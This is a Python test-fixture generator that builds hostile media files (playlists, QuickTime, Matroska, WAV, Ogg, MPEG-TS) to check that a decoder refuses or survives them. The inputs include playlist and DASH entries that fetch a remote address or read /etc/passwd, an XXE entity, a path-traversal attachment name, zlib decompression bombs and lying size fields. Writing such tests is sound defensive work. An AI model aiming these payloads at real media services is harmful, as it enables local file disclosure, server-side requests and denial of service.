"""Writes files that attack a media decoder: `hostile_files()` gives (name, content, codes that may answer it).

Everything is generated, the same on every machine: no sample of anybody's is needed. `make_hostile.py FOLDER` writes them
for a look by hand.
"""
import pathlib
import random
import struct
import sys
import zlib

from boxes import (EBML_HEADER, FTYP, OPUS_TAGS, atom, block, chunk, claimed_atom, ebml, full_atom, mkv, mov, number, ogg_page,
                   opus_head, real, sound_entry, track_entry, ts_packet, ts_pat, ts_pes, ts_pmt, ts_section, wav)

REFUSED = {"media_refused"}
UNKNOWN = {"media_unrecognised"}
BROKEN = {"media_corrupt", "media_unrecognised", "media_no_audio"}
SURVIVED = {"ok"}
ANY = {"ok", "media_corrupt", "media_unrecognised", "media_no_audio", "media_refused", "media_too_long", "decoder_out_of_memory"}
HOST_FILE = "/etc/passwd"
REMOTE = "http://192.0.2.1/secret"  # TEST-NET-1 (RFC 5737): nobody answers there


def id3(content_size, claimed=None):
    claimed = content_size if claimed is None else claimed
    return b"ID3\4\0\0" + bytes((claimed >> shift) & 0x7F for shift in (21, 14, 7, 0)) + bytes(content_size)


def playlists():
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n%s\n#EXT-X-ENDLIST\n"
    yield "hls_network.m3u8", (hls % (REMOTE + ".ts")).encode(), REFUSED
    yield "hls_file.mp4", (hls % f"file://{HOST_FILE}").encode(), REFUSED
    yield "hls_concat_protocol.ts", (hls % f"concat:{REMOTE}|file://{HOST_FILE}").encode(), REFUSED
    yield "hls_child_playlist.m3u8", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{REMOTE}.m3u8\n".encode(), REFUSED
    yield "hls_key.mp3", (hls % "a.ts").replace("#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{REMOTE}"\n#EXTINF').encode(), REFUSED
    yield "hls_behind_bom.mp3", b"\xef\xbb\xbf\r\n" + (hls % REMOTE).encode(), REFUSED
    yield "hls_behind_id3.mp3", id3(300) + (hls % REMOTE).encode(), REFUSED
    yield "hls_behind_wav_header.wav", wav((hls % REMOTE).encode()), SURVIVED
    yield "hls_in_riff_chunk.avi", b"RIFF" + struct.pack("<I", 200) + b"AVI " + (hls % REMOTE).encode(), BROKEN
    yield "plain.m3u", f"#EXTINF:1,x\n{REMOTE}\n".encode(), REFUSED
    yield "concat.ffconcat", f"ffconcat version 1.0\nfile '{HOST_FILE}'\n".encode(), REFUSED
    yield "concat_unnamed.mkv", f"file '{HOST_FILE}'\nfile '{REMOTE}'\n".encode(), REFUSED
    yield "session.sdp", b"v=0\r\no=- 0 0 IN IP4 192.0.2.1\r\ns=x\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\nm=audio 9 RTP/AVP 0\r\n", REFUSED
    yield "dash.mpd", (f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation>'
                       f"<BaseURL>{REMOTE}</BaseURL></Representation></AdaptationSet></Period></MPD>").encode(), REFUSED
    yield "dash_entity.mpd", (f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{HOST_FILE}">]>'
                              "<MPD>&x;</MPD>").encode(), REFUSED
    yield "list.xspf", f'<?xml version="1.0"?><playlist><trackList><track><location>file://{HOST_FILE}</location></track></trackList></playlist>'.encode(), REFUSED
    yield "list.pls", f"[playlist]\nFile1={REMOTE}\nNumberOfEntries=1\n".encode(), REFUSED
    yield "list.asx", f'<ASX version="3.0"><Entry><Ref href="{REMOTE}"/></Entry></ASX>'.encode(), REFUSED
    yield "show.smil", f'<smil><body><audio src="{REMOTE}"/></body></smil>'.encode(), REFUSED
    yield "address.rtsp", b"rtsp://192.0.2.1/stream", REFUSED
    yield "drawing.svg", f'<?xml version="1.0"?><svg><image href="file://{HOST_FILE}"/></svg>'.encode(), UNKNOWN
    yield "subtitles.srt", b"1\n00:00:01,000 --> 00:00:02,000\n" + REMOTE.encode() + b"\n", UNKNOWN
    yield "picture.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 0x7FFFFFFF, 0x7FFFFFFF, 16, 6, 0, 0, 0) + bytes(4), UNKNOWN


def external_dref():
    address = b"file://" + HOST_FILE.encode() + b"\0"
    return full_atom(b"dref", struct.pack(">I", 1), full_atom(b"url ", address))


def alias_dref():
    path = HOST_FILE.encode()
    alias = bytes(10) + b"\x03vol".ljust(28, b"\0") + bytes(12) + b"\x06passwd".ljust(64, b"\0") + bytes(16) + bytes(20)
    alias += struct.pack(">hH", 18, len(path)) + path + struct.pack(">hH", -1, 0)
    return full_atom(b"dref", struct.pack(">I", 1), full_atom(b"alis", alias))


def reference_movie():
    address = (REMOTE + ".mov\0").encode()
    return FTYP + atom(b"moov", atom(b"rmra", atom(b"rmda", full_atom(b"rdrf", b"url ", struct.pack(">I", len(address)), address))))


def nested(kind, depth):
    content = b""
    for _ in range(depth):
        content = atom(kind, content)
    return content


def compressed_header(size):
    packed = zlib.compress(bytes(size), 9)
    return FTYP + atom(b"moov", atom(b"cmov", atom(b"dcom", b"zlib"), atom(b"cmvd", struct.pack(">I", size & 0xFFFFFFFF), packed)))


def table(kind, entries, *content):
    return {kind: full_atom(kind, struct.pack(">I", entries), *content)}


def quicktime():
    yield "mov_dref_url.mov", mov(dref=external_dref()), {"media_corrupt", "ok"}
    yield "mov_dref_alias.mov", mov(dref=alias_dref()), {"media_corrupt", "ok"}
    yield "mov_reference_movie.mov", reference_movie(), REFUSED
    yield "mov_nested.mov", FTYP + nested(b"moov", 20000), ANY
    yield "mov_nested_udta.mov", FTYP + atom(b"moov", nested(b"udta", 100_000)), ANY
    yield "mov_zlib_bomb.mov", compressed_header(200 << 20), ANY
    yield "mov_zlib_bomb_lying.mov", compressed_header(1 << 20).replace(struct.pack(">I", 1 << 20), b"\x7f\xff\xff\xff"), ANY
    yield "mov_stts_claims.mov", mov(table(b"stts", 0x0FFFFFFF, struct.pack(">II", 800, 1))), ANY
    yield "mov_stsz_claims.mov", mov({b"stsz": full_atom(b"stsz", struct.pack(">II", 0, 0x3FFFFFFF), bytes(400))}), ANY
    yield "mov_stsz_endless.mov", mov({b"stsz": full_atom(b"stsz", struct.pack(">II", 1, 0x7FFFFFFF))}), ANY
    yield "mov_stsc_endless.mov", mov(table(b"stsc", 1, struct.pack(">III", 1, 0x7FFFFFFF, 1))), ANY
    yield "mov_stts_huge.mov", mov(table(b"stts", 500_000, struct.pack(">II", 0x7FFFFFFF, 0x7FFFFFFF) * 500_000)), ANY
    yield "mov_stco_beyond.mov", mov(table(b"stco", 1, struct.pack(">I", 0xFFFFFFF0))), ANY
    yield "mov_co64_beyond.mov", mov({b"stco": full_atom(b"co64", struct.pack(">IQ", 1, 0x7FFFFFFFFFFFFFF0))}), ANY
    edits = full_atom(b"elst", struct.pack(">I", 300_000), struct.pack(">IiI", 1, 0, 0x10000) * 300_000)
    yield "mov_edits_many.mov", mov(edits=atom(b"edts", edits)), ANY
    edits = full_atom(b"elst", struct.pack(">I", 2), struct.pack(">IiIIiI", 0x7FFFFFFF, -1, 0x10000, 800, 0, 0x10000))
    yield "mov_edit_years_of_silence.mov", mov(edits=atom(b"edts", edits)), ANY
    yield "mov_rate_zero.mov", mov(entry=sound_entry(rate=0), timescale=1), ANY
    yield "mov_timescale_zero.mov", mov(timescale=0), ANY
    yield "mov_channels_65535.mov", mov(entry=sound_entry(channels=65535)), ANY
    yield "mov_duration_absurd.mov", mov(duration=0xFFFFFFFE), ANY
    yield "mov_million_tracks.mov", mov(extra_tracks=atom(b"trak") * 1_000_000), ANY
    yield "mov_mdat_longer_than_file.mov", FTYP + claimed_atom(b"mdat", 0xFFFFFFF0, bytes(1000)), BROKEN
    yield "mov_atom_of_seven_bytes.mov", FTYP + claimed_atom(b"moov", 7, bytes(100)), BROKEN
    yield "mov_video_giant.mov", mov(handler=b"vide", entry=atom(b"mp4v", bytes(24), b"\xff\xff\xff\xff", bytes(50))), BROKEN
    extra = atom(b"wave", atom(b"esds", b"\xff" * 4096))
    yield "mov_esds_nonsense.mov", mov(entry=sound_entry(codec=b"mp4a", extra=extra)), ANY
    yield "mp4_fragments_overlap.mp4", mov() + b"".join(
        atom(b"moof", full_atom(b"mfhd", struct.pack(">I", i)), atom(b"traf", full_atom(b"tfhd", struct.pack(">I", 1)),
             full_atom(b"trun", struct.pack(">I", 0x00FFFFFF)))) for i in range(2000)), ANY


def nested_ebml(depth):
    content = b""
    for _ in range(depth):
        content = ebml("B6", content)
    return content


def lying_size(identifier):
    return ebml(identifier, bytes(100), size=(1 << 55))


def matroska():
    linked = ebml("73A4", bytes(range(16))) + ebml("3EB923", bytes(16)) + ebml("3E83BB", HOST_FILE.encode())
    yield "mkv_linked_segments.mkv", mkv(info=linked), SURVIVED
    chapter = ebml("B6", number("73C4", 1), number("91", 0), ebml("6E67", bytes(16)), number("4598", 1))
    yield "mkv_ordered_chapters.mkv", mkv(extra=ebml("1043A770", ebml("45B9", number("45DD", 1), chapter * 1000))), SURVIVED
    attachment = ebml("61A7", ebml("466E", b"../../etc/passwd"), ebml("4660", b"font/ttf"), ebml("465C", bytes(1 << 20)), number("46AE", 7))
    yield "mkv_attachments.mkv", mkv(extra=ebml("1941A469", attachment * 30)), SURVIVED
    yield "mkv_nested_chapters.mkv", mkv(extra=ebml("1043A770", ebml("45B9", nested_ebml(5000)))), ANY
    yield "mkv_million_tracks.mkv", mkv(tracks=(ebml("AE") * 1_000_000)), ANY
    yield "mkv_thousand_audio_tracks.mkv", mkv(tracks=b"".join(track_entry(i + 1) for i in range(1000))), ANY
    yield "mkv_lying_tracks.mkv", EBML_HEADER + ebml("18538067", lying_size("1654AE6B")), BROKEN
    yield "mkv_lying_block.mkv", mkv(clusters=ebml("1F43B675", number("E7", 0), lying_size("A3"))), ANY
    yield "mkv_lying_codec_private.mkv", mkv(tracks=ebml("AE", number("D7", 1), number("83", 2, 1), ebml("63A2", bytes(64), size=1 << 40))), BROKEN
    yield "mkv_rate_absurd.mkv", mkv(tracks=track_entry(rate=1e300)), ANY
    yield "mkv_rate_not_a_number.mkv", mkv(tracks=track_entry(rate=float("nan"))), ANY
    yield "mkv_channels_absurd.mkv", mkv(tracks=track_entry(channels=0x7FFFFFFF)), ANY
    yield "mkv_duration_absurd.mkv", mkv(info=real("4489", 1e300)), ANY
    yield "mkv_time_scale_absurd.mkv", mkv(info=number("2AD7B1", (1 << 62), 8)), ANY
    jumps = b"".join(ebml("1F43B675", number("E7", (1 << 62) >> (i % 60), 8), block(0, bytes(640))) for i in range(600))
    yield "mkv_wild_time_stamps.mkv", mkv(clusters=jumps), ANY
    empty = b"".join(ebml("1F43B675", number("E7", i), block(0, b"")) for i in range(20_000))
    yield "mkv_empty_packets.mkv", mkv(clusters=empty), ANY
    packed = zlib.compress(bytes(100 << 20), 9)
    encoding = ebml("6D80", ebml("6240", number("5031", 0), number("5032", 1), number("5033", 0), ebml("5034", number("4254", 0))))
    yield "mkv_zlib_bomb.mkv", mkv(tracks=track_entry(1, 2, b"A_PCM/INT/LIT", encoding),
                                   clusters=ebml("1F43B675", number("E7", 0), block(0, packed))), ANY
    lace = ebml("A3", bytes([0x81]), struct.pack(">hB", 0, 0x82), b"\xff", b"\xff" * 5000)
    yield "mkv_lacing_lies.mkv", mkv(clusters=ebml("1F43B675", number("E7", 0), lace * 50)), ANY
    giant = ebml("E0", number("B0", 0x7FFFFFFF), number("BA", 0x7FFFFFFF))
    yield "mkv_video_giant.mkv", mkv(tracks=ebml("AE", number("D7", 1), number("83", 1, 1), ebml("86", b"V_VP9"), giant)), {"media_no_audio"}
    yield "mkv_flac_private_nonsense.mkv", mkv(tracks=track_entry(1, 2, b"A_FLAC", ebml("63A2", b"fLaC" + b"\xff" * 60))), ANY
    yield "mkv_opus_private_nonsense.mkv", mkv(tracks=track_entry(1, 2, b"A_OPUS", ebml("63A2", b"OpusHead" + b"\xff" * 300))), ANY


def riff_and_iff():
    yield "wav_data_longer_than_file.wav", wav(data_size=0xFFFFFFF0), SURVIVED
    yield "wav_riff_shorter.wav", wav(riff_size=4), ANY
    yield "wav_rate_max.wav", wav(rate=0xFFFFFFFF), ANY
    yield "wav_rate_one.wav", wav(bytes(200_000), rate=1), ANY
    yield "wav_rate_zero.wav", wav(rate=0), ANY
    yield "wav_channels_65535.wav", wav(bytes(1 << 20), channels=65535), ANY
    yield "wav_channels_zero.wav", wav(channels=0), ANY
    yield "wav_bits_65535.wav", wav(bits=65535), ANY
    yield "wav_float_not_numbers.wav", wav(struct.pack("<5f", float("nan"), float("inf"), -float("inf"), 1e38, -1e38) * 4000, bits=32, tag=3), SURVIVED
    yield "wav_chunk_loop.wav", wav(before_data=chunk(b"LIST", b"", size=0) * 200_000), ANY
    yield "wav_chunk_negative.wav", wav(before_data=chunk(b"LIST", b"INFO", size=0xFFFFFFFF)), ANY
    yield "wav_atrac_extradata.wav", wav(tag=0x0270, before_data=chunk(b"fact", bytes(4))), ANY
    ds64 = chunk(b"ds64", struct.pack("<QQQI", 1 << 62, 1 << 62, 1 << 62, 0))
    yield "rf64_claims_exabytes.wav", b"RF64" + b"\xff" * 4 + b"WAVE" + ds64 + wav()[12:], ANY
    yield "w64_negative_chunk.w64", bytes.fromhex("726966662e91cf11a5d628db04c10000") + struct.pack("<q", 1 << 62) + \
        bytes.fromhex("77617665f3acd3118cd100c04f8edb8a") + bytes.fromhex("666d7420f3acd3118cd100c04f8edb8a") + struct.pack("<q", -8), BROKEN
    common = struct.pack(">hIh", 1, 0xFFFFFFFF, 16) + b"\x7f\xfe" + b"\xff" * 8
    yield "aiff_lies.aiff", b"FORM\xff\xff\xff\xffAIFF" + b"COMM" + struct.pack(">I", len(common)) + common + b"SSND\xff\xff\xff\xff" + bytes(108), ANY
    description = struct.pack(">d4sIIIII", 1e308, b"lpcm", 0, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    yield "caf_lies.caf", b"caff\0\1\0\0" + b"desc" + struct.pack(">q", len(description)) + description + b"data" + struct.pack(">q", -1) + bytes(1000), ANY
    packets = struct.pack(">qqII", 1 << 60, 1 << 60, 0, 0)
    yield "caf_packet_table.caf", b"caff\0\1\0\0" + b"desc" + struct.pack(">q", 32) + struct.pack(">d4sIIIII", 16000.0, b"aac ", 0, 0, 1024, 1, 0) + \
        b"pakt" + struct.pack(">q", len(packets)) + packets + b"data" + struct.pack(">q", 100) + bytes(100), ANY
    header = struct.pack("<14I", 1, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0)
    yield "avi_lies.avi", b"RIFF\xff\xff\xff\xffAVI LIST" + struct.pack("<I", 0xFFFFFFF0) + b"hdrl" + chunk(b"avih", header) + chunk(b"idx1", bytes(16), size=0xFFFFFFF0), ANY
    yield "avi_nested_lists.avi", b"RIFF\xff\xff\xff\xffAVI " + (b"LIST" + struct.pack("<I", 0x7FFFFFFF) + b"hdrl") * 50_000, ANY
    yield "au_lies.au", struct.pack(">4sIIIII", b".snd", 0xFFFFFFFF, 0xFFFFFFFF, 3, 0xFFFFFFFF, 0xFFFFFFFF) + bytes(400), ANY


def mp3_frames(count):
    return (b"\xff\xfb\x90\xc4" + bytes(413)) * count


def adts(payload):
    size = len(payload) + 7
    return bytes([0xFF, 0xF1, 0x60, 0x40 | (size >> 11), (size >> 3) & 0xFF, ((size & 7) << 5) | 0x1F, 0xFC]) + payload


def elementary():
    chance = random.Random(20261124)
    yield "random_bytes.mp4", chance.randbytes(200_000), BROKEN
    yield "zeros.mp3", bytes(300_000), BROKEN
    yield "one_byte.wav", b"R", UNKNOWN
    yield "id3_claims_all.mp3", id3(100, claimed=0x0FFFFFFF) + mp3_frames(10), ANY
    yield "id3_chain.mp3", id3(10) * 50_000 + mp3_frames(20), ANY
    frame = b"APIC" + bytes.fromhex("7f7f7f7f") + bytes(2)
    yield "id3_frame_bomb.mp3", b"ID3\4\0\0\0\0\x10\0" + frame + bytes(2038) + mp3_frames(20), ANY
    packed = zlib.compress(bytes(100 << 20), 9)
    size = len(packed) + 14
    synchsafe = bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0))
    body = b"TXXX" + bytes(((len(packed) + 4) >> shift) & 0x7F for shift in (21, 14, 7, 0)) + b"\0\x09" + b"\x7f\x7f\x7f\x7f" + packed
    yield "id3_zlib_bomb.mp3", b"ID3\4\0\0" + synchsafe + body + mp3_frames(20), ANY
    xing = b"\xff\xfb\x90\xc4" + bytes(32) + b"Xing" + struct.pack(">III", 3, 0xFFFFFFFF, 0xFFFFFFFF) + bytes(365)
    yield "mp3_xing_lies.mp3", xing + mp3_frames(100), ANY
    info = struct.pack(">HH", 16, 65535) + b"\xff" * 6 + b"\xff" * 24
    yield "flac_header_lies.flac", b"fLaC\x80" + (34).to_bytes(3, "big") + info + b"\xff\xf8" * 5000, ANY
    yield "flac_blocks_forever.flac", b"fLaC\0" + (34).to_bytes(3, "big") + info + (b"\x01" + (0).to_bytes(3, "big")) * 500_000, ANY
    yield "flac_picture_bomb.flac", b"fLaC\0" + (34).to_bytes(3, "big") + info + b"\x86\xff\xff\xff" + b"\0\0\0\3" + b"\xff" * 1000, ANY
    yield "aac_garbage.aac", b"".join(adts(chance.randbytes(200)) for _ in range(2000)), ANY
    yield "amr_garbage.amr", b"#!AMR\n" + chance.randbytes(50_000), ANY
    yield "amr_wb_garbage.amr", b"#!AMR-WB\n" + chance.randbytes(50_000), ANY
    yield "ac3_garbage.ac3", b"".join(b"\x0b\x77" + chance.randbytes(254) for _ in range(1000)), ANY
    yield "asf_header_loop.wma", bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + struct.pack("<QIH", 1 << 62, 0x7FFFFFFF, 0x0201) + bytes(24) * 5000, BROKEN
    yield "flv_lies.flv", b"FLV\1\5\0\0\0\x09\0\0\0\0" + (b"\x08\xff\xff\xff" + bytes(8)) * 500, ANY
    yield "ape_seek_table.ape", b"MAC " + struct.pack("<HHIIIIIII", 3990, 0, 52, 24, 0xFFFFFFFF, 0, 0, 0, 0) + b"\xff" * 60, BROKEN
    yield "wv_blocks.wv", (b"wvpk" + struct.pack("<IHBBIIIII", 24, 0x410, 0, 0, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0x1804, 0)) * 5000, ANY
    yield "tta_seek_table.tta", b"TTA1" + struct.pack("<HHHIII", 1, 65535, 24, 0xFFFFFFFF, 0xFFFFFFFF, 0), BROKEN
    yield "rm_headers.rm", b".RMF" + struct.pack(">IHII", 18, 0, 0, 0x7FFFFFFF) + (b"MDPR" + struct.pack(">IH", 0xFFFFFFFF, 0)) * 2000, BROKEN


def streams():
    head = ogg_page(opus_head(), flags=2)
    yield "ogg_chained_forever.ogg", b"".join(
        ogg_page(opus_head(), serial=i, flags=2) + ogg_page(OPUS_TAGS, serial=i, sequence=1) +
        ogg_page(b"\x08\x00", serial=i, sequence=2, granule=960, flags=4) for i in range(3000)), ANY
    yield "ogg_thousands_of_streams.ogg", b"".join(ogg_page(opus_head(), serial=i, flags=2) for i in range(20_000)), ANY
    yield "ogg_empty_pages.ogg", head + ogg_page(OPUS_TAGS, sequence=1) + b"".join(ogg_page(b"", sequence=i) for i in range(50_000)), ANY
    tags = b"OpusTags" + struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF)
    yield "ogg_comment_count.opus", head + ogg_page(tags, sequence=1) + ogg_page(b"\x08\x00", sequence=2, granule=960), ANY
    yield "ogg_granule_absurd.opus", head + ogg_page(OPUS_TAGS, sequence=1) + b"".join(
        ogg_page(b"\x08\x00", sequence=2 + i, granule=(1 << 62) >> (i % 50)) for i in range(500)), ANY
    yield "ogg_opus_255_channels.opus", ogg_page(opus_head(channels=255), flags=2) + ogg_page(OPUS_TAGS, sequence=1) + ogg_page(b"\x08\x00", sequence=2), ANY
    yield "ogg_vorbis_headers.ogg", ogg_page(b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 255, 0xFFFFFFFF, -1, -1, -1, 0xFF, 1), flags=2) + ogg_page(b"\x05vorbis" + b"\xff" * 60_000, sequence=1), ANY

    programs = [(i, 32 + i) for i in range(1, 42)]
    many = b"".join(ts_pmt(pid, program, [(0x0F, 0x100 + (program * 33 + s) % 7900) for s in range(33)]) for program, pid in programs)
    yield "ts_thousands_of_streams.ts", (ts_pat(programs) + many) * 40, ANY
    base = ts_pat([(1, 32)]) + ts_pmt(32, 1, [(0x03, 256)])
    frame = mp3_frames(1)[:150]
    wild = b"".join(ts_pes(256, ((i * 7919) << 20) & 0x1FFFFFFFF, frame, i) for i in range(3000))
    yield "ts_wild_time_stamps.ts", base + wild, ANY
    yield "ts_program_changes_forever.ts", b"".join(
        ts_pat([(1 + i % 9, 32 + i % 50)]) + ts_pmt(32 + i % 50, 1 + i % 9, [(0x0F, 256 + i % 7000)]) for i in range(5000)), ANY
    service = struct.pack(">HB", 1, 0xFF) + struct.pack(">HBH", 1, 0xFC, 0x8000 | 40) + bytes([0x48, 38, 1, 17]) + \
        b"\x10\x00\x05" + b"\xd0\xe0" * 7 + bytes([17]) + b"\x1f\x13" + b"\xb0" * 15
    yield "ts_service_in_a_strange_alphabet.ts", (base + ts_section(17, 0x42, 1, service)) * 30 + b"".join(ts_pes(256, 3600 * i, frame, i) for i in range(300)), ANY
    yield "ts_no_tables.ts", ts_packet(256, bytes(184), start=False) * 5000, BROKEN
    yield "ps_endless_headers.mpg", b"\0\0\1\xba" + (b"\0\0\1\xbb\xff\xff" + bytes(6)) * 20_000, ANY


def hostile_files():
    for family in (playlists, quicktime, matroska, riff_and_iff, elementary, streams):
        yield from family()


if __name__ == "__main__":
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, content, _ in hostile_files():
        (folder / name).write_bytes(content)
